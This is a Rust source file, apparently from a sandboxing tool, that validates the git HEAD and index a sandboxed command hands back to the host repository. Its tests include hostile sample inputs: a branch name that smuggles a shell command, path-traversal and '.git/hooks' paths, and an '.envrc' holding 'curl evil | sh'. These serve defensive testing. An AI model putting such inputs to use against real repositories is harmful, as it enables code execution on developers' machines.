//! Pure: what git state a command may hand back to the host's repository.
//!
//! A command works in a git directory of its own (see `gitdir.rs`); only
//! `HEAD` and the index come back, and only in forms the host's git reads as
//! data. A `HEAD` that names anything but a branch or a commit is refused. An
//! index that adds a gitlink (a submodule entry) is refused too: for every
//! gitlink whose directory holds a repository, the host's `git status` runs
//! `git status` inside it, with that repository's configuration, so a
//! repository the command made below the workspace would run its
//! `core.fsmonitor` on the host.

use std::collections::{BTreeMap, BTreeSet};

use anyhow::{bail, ensure, Context, Result};

/// The largest `HEAD` read back: a ref name or an object id, and a newline.
pub const HEAD_MAX: u64 = 4096;

/// Whether `head` is a `HEAD` the host's git may read: `ref: refs/heads/NAME`
/// with a well-formed branch name. A detached `HEAD` is refused: an object
/// id of the wrong length, or of an object that does not exist, breaks the
/// repository until it is repaired by hand.
pub fn is_branch_head(head: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(head) else {
        return false;
    };
    text.strip_suffix('\n')
        .and_then(|line| line.strip_prefix("ref: refs/heads/"))
        .is_some_and(is_valid_branch)
}

/// git's check-ref-format rules, for the part after `refs/heads/`.
/// Narrower than git's: letters, digits and `._/-` only, since shell
/// prompts print the branch name, and not all of them quote it.
fn is_valid_branch(name: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._/-".contains(c);
    !name.is_empty()
        && name.chars().all(plain)
        && !name.contains("..")
        && !name.contains("@{")
        && !name.ends_with('.')
        && name
            .split('/')
            .all(|part| !part.is_empty() && !part.starts_with('.') && !part.ends_with(".lock"))
}

/// The object ids' length in bytes: SHA-1's, or SHA-256's.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum ObjectFormat {
    Sha1,
    Sha256,
}

impl ObjectFormat {
    /// The format a repository's `config` names (`extensions.objectFormat`).
    pub fn of_config(config: &str) -> ObjectFormat {
        let sha256 = config.lines().any(|line| {
            let line = line.trim().to_ascii_lowercase();
            line.starts_with("objectformat") && line.ends_with("sha256")
        });
        match sha256 {
            true => ObjectFormat::Sha256,
            false => ObjectFormat::Sha1,
        }
    }

    fn len(self) -> usize {
        match self {
            ObjectFormat::Sha1 => 20,
            ObjectFormat::Sha256 => 32,
        }
    }

    fn digest(self, bytes: &[u8]) -> Vec<u8> {
        let algorithm = match self {
            ObjectFormat::Sha1 => &ring::digest::SHA1_FOR_LEGACY_USE_ONLY,
            ObjectFormat::Sha256 => &ring::digest::SHA256,
        };
        ring::digest::digest(algorithm, bytes).as_ref().to_vec()
    }
}

/// A git index, read entry by entry exactly as git reads one.
#[derive(Debug)]
pub struct Index<'a> {
    bytes: &'a [u8],
    /// Where the entries end and the extensions begin.
    entries_end: usize,
    format: ObjectFormat,
    /// The paths of the gitlink (submodule) entries.
    pub gitlinks: BTreeSet<Vec<u8>>,
    /// Every entry by path: what git would check out there, and the bits
    /// that hide it from `git status`.
    entries: BTreeMap<Vec<u8>, Entry>,
    /// Where each entry's stat data starts, with its path, in order.
    stats: Vec<(usize, Vec<u8>)>,
}

/// What an entry says about its path.
#[derive(Debug, Clone)]
pub struct Entry {
    mode: u32,
    oid: Vec<u8>,
    /// The merge stage (0 outside a conflict).
    stage: u16,
    /// `assume-unchanged`: git stops comparing the file with the work tree.
    assume_valid: bool,
    /// `skip-worktree`: git neither compares nor checks the file out.
    skip_worktree: bool,
    /// The file system data git compares to decide the file is unchanged.
    stat: Vec<u8>,
}

impl<'a> Index<'a> {
    /// The header and the entries with a checksum of their own: every
    /// extension left out. What git keeps there (trees, caches, offsets it
    /// may read entries from, a split index's link) could make git read
    /// something else than was checked; without them git recomputes what it
    /// needs.
    ///
    /// Each entry keeps the host's stat data where the host has the same
    /// content at that path, and none (zeros) otherwise: the command could
    /// record a changed file's stat beside the old content, and `git status`
    /// would never look at the file again. With zeros git hashes it anew.
    pub fn entries_only(&self, host: &BTreeMap<Vec<u8>, Entry>) -> Vec<u8> {
        let mut out = self.bytes[..self.entries_end].to_vec();
        for (at, path) in &self.stats {
            let same = match (self.entries.get(path), host.get(path)) {
                (Some(mine), Some(theirs)) => mine.mode == theirs.mode && mine.oid == theirs.oid,
                _ => false,
            };
            let stat = &mut out[*at..*at + STAT];
            match (same, host.get(path)) {
                (true, Some(theirs)) => stat.copy_from_slice(&theirs.stat),
                // All but the mode, which lives among them.
                _ => {
                    stat[..24].fill(0);
                    stat[28..].fill(0);
                }
            }
        }
        out.extend(self.format.digest(&out));
        out
    }
}

/// What of the command's index `after` may come back over the host's
/// `before`: its entries alone (see `Index::entries_only`). Refused when it
/// has a path git must not write, or when, compared with the host's:
/// - its submodules differ, either way: an added one would make the host's
///   `git status` run a repository the command made; a removed one would
///   leave the host's unprotected by the next run, until the user's own
///   `git reset` brings it back with the command's `.git` in place;
/// - any entry at or under a `protected` path differs: the user's next
///   `git checkout -- .` or `git stash pop` would write it out;
/// - an entry gained `assume-unchanged` or `skip-worktree`, which hide it
///   from `git status`.
pub fn index_to_hand_back(
    before: Option<&[u8]>,
    after: &[u8],
    format: ObjectFormat,
    protected: &[String],
) -> Result<Vec<u8>> {
    let host = match before {
        Some(index) => parse(index, format).context("the host's index")?.entries,
        None => BTreeMap::new(),
    };
    let index = parse(after, format)?;
    let show = |paths: Vec<&Vec<u8>>| {
        let shown: Vec<_> = paths
            .iter()
            .take(5)
            .map(|p| String::from_utf8_lossy(p).into_owned())
            .collect();
        shown.join(", ")
    };
    let links = |entries: &BTreeMap<Vec<u8>, Entry>| -> BTreeSet<Vec<u8>> {
        entries
            .iter()
            .filter(|(_, e)| e.mode & 0o170000 == GITLINK)
            .map(|(p, _)| p.clone())
            .collect()
    };
    let (old, new) = (links(&host), &index.gitlinks);
    let added: Vec<_> = new.difference(&old).collect();
    if !added.is_empty() {
        bail!(
            "it adds submodules ({}), whose repositories the host's git would run",
            show(added)
        );
    }
    let removed: Vec<_> = old.difference(new).collect();
    if !removed.is_empty() {
        bail!(
            "it drops submodules ({}), which sandbox protects only while your index has them",
            show(removed)
        );
    }
    // A protected path and everything below it.
    let is_protected = |path: &[u8]| {
        protected.iter().any(|p| {
            let p = p.trim_end_matches('/').as_bytes();
            path.strip_prefix(p)
                .is_some_and(|rest| rest.is_empty() || rest.starts_with(b"/"))
        })
    };
    // Stat data aside: git compares it only to decide whether to look.
    let content = |e: &Entry| {
        (
            e.mode,
            e.oid.clone(),
            e.stage,
            e.assume_valid,
            e.skip_worktree,
        )
    };
    let paths: BTreeSet<&Vec<u8>> = host.keys().chain(index.entries.keys()).collect();
    let changed: Vec<_> = paths
        .into_iter()
        .filter(|p| {
            is_protected(p) && host.get(*p).map(content) != index.entries.get(*p).map(content)
        })
        .collect();
    if !changed.is_empty() {
        bail!(
            "it changes protected paths ({}), which your git would write out",
            show(changed)
        );
    }
    let hidden: Vec<_> = index
        .entries
        .iter()
        .filter(|(path, e)| {
            let had = host.get(*path);
            (e.assume_valid && !had.is_some_and(|h| h.assume_valid))
                || (e.skip_worktree && !had.is_some_and(|h| h.skip_worktree))
        })
        .map(|(path, _)| path)
        .collect();
    if !hidden.is_empty() {
        bail!("it hides entries from `git status` ({})", show(hidden));
    }
    Ok(index.entries_only(&host))
}

const GITLINK: u32 = 0o160000;
/// ctime, mtime (seconds and nanoseconds), dev, ino, mode, uid, gid, size.
const STAT: usize = 40;

/// Reads `index`, versions 2 to 4, as git does: each entry's name as long as
/// its flags say (git's rule, not the first NUL), its padding all NULs; the
/// extensions must add up to the checksum. A split or sparse index is
/// refused: its entries alone are not the index.
pub fn parse(index: &[u8], format: ObjectFormat) -> Result<Index<'_>> {
    const NAME_MASK: u16 = 0x0fff;
    let mut r = Reader { data: index, at: 0 };
    ensure!(r.take(4)? == b"DIRC", "not a git index");
    let version = r.u32()?;
    ensure!((2..=4).contains(&version), "index version {version}");
    let count = r.u32()?;
    let mut gitlinks = BTreeSet::new();
    let mut entries = BTreeMap::new();
    let mut stats = Vec::new();
    let mut previous: Vec<u8> = Vec::new();
    for _ in 0..count {
        let start = r.at;
        let stat = r.take(STAT)?;
        let mode = u32::from_be_bytes(stat[24..28].try_into().expect("four bytes"));
        let oid = r.take(format.len())?.to_vec();
        let flags = r.u16()?;
        let mut extended = 0;
        if flags & 0x4000 != 0 {
            ensure!(version >= 3, "extended flags in a version 2 index");
            extended = r.u16()?;
        }
        let named = usize::from(flags & NAME_MASK);
        let name = if version == 4 {
            let strip = r.varint()?;
            let keep = previous
                .len()
                .checked_sub(strip)
                .context("a path shorter than its prefix")?;
            let rest = r.peek_until_nul()?;
            let len = match named == usize::from(NAME_MASK) {
                true => keep + rest,
                false => named,
            };
            let suffix = len
                .checked_sub(keep)
                .context("a name shorter than its prefix")?;
            let mut name = previous[..keep].to_vec();
            name.extend_from_slice(r.take(suffix)?);
            ensure!(r.take(1)? == b"\0", "a name without its end");
            name
        } else {
            let len = match named == usize::from(NAME_MASK) {
                true => r.peek_until_nul()?,
                false => named,
            };
            let name = r.take(len)?.to_vec();
            // Entries are padded with NULs to a multiple of eight bytes.
            let end = (r.at - start + 8) & !7;
            let padding = r.take(start + end - r.at)?;
            ensure!(
                padding.iter().all(|&b| b == 0),
                "an entry's padding is not NULs"
            );
            name
        };
        ensure!(!name.contains(&0), "a name with a NUL inside");
        if !is_safe_path(&name) {
            bail!(
                "it has an entry at {:?}, which git would write outside the work tree or into \
                 a .git",
                String::from_utf8_lossy(&name)
            );
        }
        if mode & 0o170000 == GITLINK {
            gitlinks.insert(name.clone());
        }
        stats.push((start, name.clone()));
        let entry = Entry {
            stat: stat.to_vec(),
            mode,
            oid,
            stage: (flags >> 12) & 0x3,
            assume_valid: flags & 0x8000 != 0,
            skip_worktree: extended & 0x4000 != 0,
        };
        // Stages of one path in a conflict: the first stands for them all.
        entries.entry(name.clone()).or_insert(entry);
        previous = name;
    }
    let entries_end = r.at;
    // Extensions (a signature and a length each), then the checksum.
    while r.data.len().saturating_sub(r.at) > format.len() {
        let signature = r.take(4)?;
        ensure!(
            signature != b"link" && signature != b"sdir",
            "a split or sparse index"
        );
        let len = r.u32()? as usize;
        r.take(len)?;
    }
    ensure!(
        r.data.len() - r.at == format.len(),
        "the index does not end in its checksum"
    );
    Ok(Index {
        bytes: index,
        entries_end,
        format,
        gitlinks,
        entries,
        stats,
    })
}

/// git's own rule for index paths (`verify_path`, with the NTFS and HFS
/// protections on): relative, no empty, `.` or `..` component, and no
/// component that a file system would take for `.git` (`.GIT`, `.git.`,
/// `git~1`, `.g\u{200c}it`).
fn is_safe_path(path: &[u8]) -> bool {
    let Ok(path) = std::str::from_utf8(path) else {
        // Not UTF-8: no file system folds it to `.git`, but git writes it
        // as bytes; only the separators matter.
        return !path.is_empty()
            && path
                .split(|&b| b == b'/' || b == b'\\')
                .all(|c| !c.is_empty() && c != b"." && c != b"..");
    };
    !path.is_empty()
        && path.split(['/', '\\']).all(|part| {
            let folded: String = part
                .chars()
                .filter(|c| !is_ignorable(*c))
                .collect::<String>()
                .to_ascii_lowercase();
            let trimmed = folded.trim_end_matches(['.', ' ']);
            !part.is_empty()
                && part != "."
                && part != ".."
                && trimmed != ".git"
                && trimmed != "git~1"
        })
}

/// Code points HFS+ ignores when it compares names.
fn is_ignorable(c: char) -> bool {
    matches!(c as u32, 0x200c..=0x200f | 0x202a..=0x202e | 0x206a..=0x206f | 0xfeff)
}

struct Reader<'a> {
    data: &'a [u8],
    at: usize,
}

impl<'a> Reader<'a> {
    fn take(&mut self, n: usize) -> Result<&'a [u8]> {
        let end = self.at.checked_add(n).filter(|&e| e <= self.data.len());
        let Some(end) = end else {
            bail!("the index ends early");
        };
        let bytes = &self.data[self.at..end];
        self.at = end;
        Ok(bytes)
    }

    fn u32(&mut self) -> Result<u32> {
        Ok(u32::from_be_bytes(self.take(4)?.try_into()?))
    }

    fn u16(&mut self) -> Result<u16> {
        Ok(u16::from_be_bytes(self.take(2)?.try_into()?))
    }

    /// How many bytes there are before the next NUL.
    fn peek_until_nul(&self) -> Result<usize> {
        self.data[self.at..]
            .iter()
            .position(|&b| b == 0)
            .context("a path without its end")
    }

    /// git's offset varint (varint.c): each continuation adds one before
    /// shifting, so every value has exactly one encoding.
    fn varint(&mut self) -> Result<usize> {
        let mut byte = self.take(1)?[0];
        let mut value = usize::from(byte & 0x7f);
        while byte & 0x80 != 0 {
            byte = self.take(1)?[0];
            value = value
                .checked_add(1)
                .and_then(|v| v.checked_mul(128))
                .context("a varint too large")?
                | usize::from(byte & 0x7f);
        }
        Ok(value)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::process::Command;

    #[test]
    fn head_names_a_branch() {
        assert!(!is_branch_head(b"ref: refs/heads/$(touch${IFS}x)\n"));
        assert!(!is_branch_head(b"ref: refs/heads/a;b\n"));
        assert!(is_branch_head(b"ref: refs/heads/main\n"));
        assert!(is_branch_head(b"ref: refs/heads/feature/x-1\n"));
        for bad in [
            &b"ref: refs/heads/main"[..],
            b"ref: ../../../home/me/.bashrc\n",
            b"ref: refs/heads/../x\n",
            b"ref: refs/heads/a b\n",
            b"ref: refs/heads/x.lock\n",
            b"ref: refs/heads/.hidden\n",
            b"ref: refs/remotes/origin/main\n",
            b"ref: refs/heads/a\nref: refs/heads/b\n",
            b"0123\n",
            b"0123456789abcdef0123456789abcdef01234567\n",
            b"",
        ] {
            assert!(!is_branch_head(bad), "{}", String::from_utf8_lossy(bad));
        }
    }

    /// Indexes written by the real git, in each version, with a gitlink.
    #[test]
    fn gitlinks_are_found_in_every_index_version() {
        for version in ["2", "3", "4"] {
            let dir = tempfile::tempdir().unwrap();
            let git = |args: &[&str]| {
                let out = Command::new("git")
                    .args(args)
                    .current_dir(dir.path())
                    .env("GIT_CONFIG_NOSYSTEM", "1")
                    .env("HOME", dir.path())
                    .output()
                    .expect("git runs");
                assert!(out.status.success(), "git {args:?}: {out:?}");
            };
            git(&["init", "-q"]);
            for name in ["a", "deep/er/b", "deep/er/c"] {
                let path = dir.path().join(name);
                std::fs::create_dir_all(path.parent().unwrap()).unwrap();
                std::fs::write(path, name).unwrap();
            }
            git(&["add", "."]);
            let before = std::fs::read(dir.path().join(".git/index")).unwrap();
            git(&[
                "update-index",
                "--add",
                "--cacheinfo",
                "160000,0123456789abcdef0123456789abcdef01234567,deep/sub",
            ]);
            git(&["update-index", "--index-version", version]);
            if version == "3" {
                // Version 3 only differs with an extended flag set.
                std::fs::write(dir.path().join("new"), "new").unwrap();
                git(&["add", "--intent-to-add", "new"]);
            }
            let after = std::fs::read(dir.path().join(".git/index")).unwrap();
            assert_eq!(
                parse(&after, SHA1).unwrap().gitlinks,
                BTreeSet::from([b"deep/sub".to_vec()]),
                "version {version}"
            );
            let err = index_to_hand_back(Some(&before), &after, SHA1, &[]).unwrap_err();
            assert!(err.to_string().contains("deep/sub"), "{err}");
            // What comes back is what git reads: the same entries.
            let back = index_to_hand_back(Some(&after), &after, SHA1, &[]).unwrap();
            std::fs::write(dir.path().join(".git/index"), &back).unwrap();
            let listed = Command::new("git")
                .args(["ls-files", "--stage"])
                .current_dir(dir.path())
                .output()
                .unwrap();
            assert!(listed.status.success(), "{listed:?}");
            let listed = String::from_utf8(listed.stdout).unwrap();
            assert!(listed.contains("160000 0123456789abcdef"), "{listed}");
            assert_eq!(listed.lines().count(), 4 + usize::from(version == "3"));
        }
    }

    const SHA1: ObjectFormat = ObjectFormat::Sha1;

    /// A repository with a few files, and a way to run git in it.
    fn repository() -> (tempfile::TempDir, impl Fn(&[&str])) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().to_path_buf();
        let git = move |args: &[&str]| {
            let out = Command::new("git")
                .args(args)
                .current_dir(&path)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("HOME", &path)
                .output()
                .expect("git runs");
            assert!(out.status.success(), "git {args:?}: {out:?}");
        };
        git(&["init", "-q"]);
        for name in ["a", ".envrc", ".vscode/tasks.json"] {
            let file = dir.path().join(name);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, name).unwrap();
        }
        git(&["add", "a", ".envrc"]);
        git(&[
            "update-index",
            "--add",
            "--cacheinfo",
            "160000,0123456789abcdef0123456789abcdef01234567,sub",
        ]);
        (dir, git)
    }

    fn index(dir: &tempfile::TempDir) -> Vec<u8> {
        std::fs::read(dir.path().join(".git/index")).unwrap()
    }

    #[test]
    fn what_the_host_protects_does_not_change_through_the_index() {
        let protected = [".envrc".to_string(), ".vscode".to_string()];
        let back = |before: &[u8], after: &[u8]| {
            index_to_hand_back(Some(before), after, SHA1, &protected).map_err(|e| e.to_string())
        };
        let (dir, git) = repository();
        let host = index(&dir);

        git(&["rm", "-q", "--cached", "sub"]);
        let err = back(&host, &index(&dir)).unwrap_err();
        assert!(err.contains("drops submodules (sub)"), "{err}");
        std::fs::write(dir.path().join(".git/index"), &host).unwrap();

        git(&["add", ".vscode/tasks.json"]);
        let err = back(&host, &index(&dir)).unwrap_err();
        assert!(
            err.contains("protected paths (.vscode/tasks.json)"),
            "{err}"
        );
        std::fs::write(dir.path().join(".git/index"), &host).unwrap();

        std::fs::write(dir.path().join(".envrc"), "curl evil | sh").unwrap();
        git(&["add", ".envrc"]);
        assert!(back(&host, &index(&dir)).unwrap_err().contains(".envrc"));
        std::fs::write(dir.path().join(".git/index"), &host).unwrap();

        git(&["update-index", "--skip-worktree", "a"]);
        let err = back(&host, &index(&dir)).unwrap_err();
        assert!(err.contains("hides entries") && err.contains('a'), "{err}");
        std::fs::write(dir.path().join(".git/index"), &host).unwrap();
        git(&["update-index", "--assume-unchanged", "a"]);
        assert!(back(&host, &index(&dir)).unwrap_err().contains("hides"));

        // What the host has keeps the host's stat data; what changed has
        // none, so git looks at the file again.
        std::fs::write(dir.path().join(".git/index"), &host).unwrap();
        std::fs::write(dir.path().join("a"), "changed").unwrap();
        git(&["add", "a"]);
        let handed = back(&host, &index(&dir)).unwrap();
        let (handed, host_entries) = (
            parse(&handed, SHA1).unwrap().entries,
            parse(&host, SHA1).unwrap().entries,
        );
        let stat = &handed[&b"a".to_vec()].stat;
        assert!(
            stat[..24].iter().chain(&stat[28..]).all(|&b| b == 0),
            "{stat:?}"
        );
        assert_eq!(handed[&b"a".to_vec()].mode, 0o100644);
        assert_eq!(
            handed[&b".envrc".to_vec()].stat,
            host_entries[&b".envrc".to_vec()].stat
        );
        std::fs::write(dir.path().join(".git/index"), &host).unwrap();
        git(&["update-index", "--assume-unchanged", "a"]);

        // The host's own bits, and changes elsewhere, pass.
        let hidden = index(&dir);
        std::fs::write(dir.path().join("b"), "b").unwrap();
        git(&["add", "b"]);
        assert!(back(&hidden, &index(&dir)).is_ok());
    }

    /// An index whose first entry's flags say one name length and whose
    /// bytes hold another: git follows the flags, and so must sandbox, or a
    /// gitlink hides where only git sees it.
    #[test]
    fn names_are_as_long_as_their_flags_say() {
        let entry = |mode: u32, name: &[u8], flag_len: u16| {
            let mut e = vec![0u8; 40];
            e[24..28].copy_from_slice(&mode.to_be_bytes());
            e.extend([0x11; 20]);
            e.extend(flag_len.to_be_bytes());
            e.extend(name);
            e
        };
        let mut index = b"DIRC\0\0\0\x02\0\0\0\x02".to_vec();
        // git: name "a" (flags say 1), then padding, which must be NULs.
        let mut first = entry(0o100644, b"a", 1);
        first.extend(b"xxxxxxx");
        index.extend(&first);
        index.extend(entry(0o160000, b"evil\0\0\0\0\0\0", 4));
        index.extend([0u8; 20]);
        let err = parse(&index, SHA1).unwrap_err();
        assert!(err.to_string().contains("padding"), "{err}");
    }

    #[test]
    fn paths_git_would_write_into_a_git_directory_are_refused() {
        for good in [
            "a",
            "src/main.rs",
            ".github/x",
            ".gitignore",
            "a/.gitx/b",
            "git~2",
        ] {
            assert!(is_safe_path(good.as_bytes()), "{good}");
        }
        for bad in [
            ".git/hooks/post-checkout",
            "sub/.GIT/config",
            ".git./hooks/x",
            ".git /hooks/x",
            "GIT~1/hooks/x",
            ".g\u{200c}it/hooks/x",
            "a\\.git\\hooks",
            "../x",
            "a/./b",
            "a//b",
            "/etc/passwd",
            "",
        ] {
            assert!(!is_safe_path(bad.as_bytes()), "{bad:?}");
        }
    }

    #[test]
    fn a_broken_index_is_refused() {
        assert!(parse(b"", SHA1).is_err());
        assert!(parse(b"DIRC\0\0\0\x02\0\0\0\x05", SHA1).is_err());
        assert!(parse(b"DIRC\0\0\0\x09\0\0\0\0", SHA1).is_err());
        let mut empty = b"DIRC\0\0\0\x02\0\0\0\0".to_vec();
        empty.extend(b"link\0\0\0\0");
        empty.extend([0u8; 20]);
        assert!(parse(&empty, SHA1)
            .unwrap_err()
            .to_string()
            .contains("split"));
    }
}
